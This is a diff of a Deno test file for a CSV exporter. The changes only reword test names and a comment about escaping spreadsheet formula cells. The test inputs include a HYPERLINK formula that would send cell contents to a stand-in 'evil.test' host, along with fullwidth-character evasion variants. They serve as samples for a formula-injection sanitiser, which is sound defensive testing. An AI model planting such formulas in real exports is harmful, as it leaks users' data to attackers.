@@ -25,7 +25,7 @@ const product: Product = {
   ean: "4006381333931",
 };
 
-Deno.test("harmless() puts an apostrophe before what a spreadsheet would run, and only there", () => {
+Deno.test("harmless() puts an apostrophe before formulas, and only there", () => {
   const run = [
     '=HYPERLINK("http://evil.test/"&A1,"x")',
     "+49 30 123456",
@@ -42,7 +42,7 @@ Deno.test("harmless() puts an apostrophe before what a spreadsheet would run, an
     "＋1",
     "－1",
     "＠1",
-    // A text that already has an apostrophe gets another one, so that it is read back unchanged.
+    // A text with an apostrophe gets a second one, so that it is read back unchanged.
     "'=1",
     "''=1",
   ];
@@ -77,7 +77,7 @@ Deno.test("csvRows() writes minor units by the currency", () => {
   ok(csvRows([{ product: dinar, market: null }], "excel").includes('"1,2340"'));
 });
 
-Deno.test("csvRows() makes every text column harmless and no number", () => {
+Deno.test("csvRows() makes every text column harmless, and no number", () => {
   const formulas = { ...product, sku: "=1+1", brand: "@x", ourPriceCents: 5 };
   const row = csvRows([{ product: formulas, market: null }], "rfc4180");
   ok(row.includes(`"'=1+1"`) && row.includes(`"'@x"`) && row.includes('"0.05"'), row);
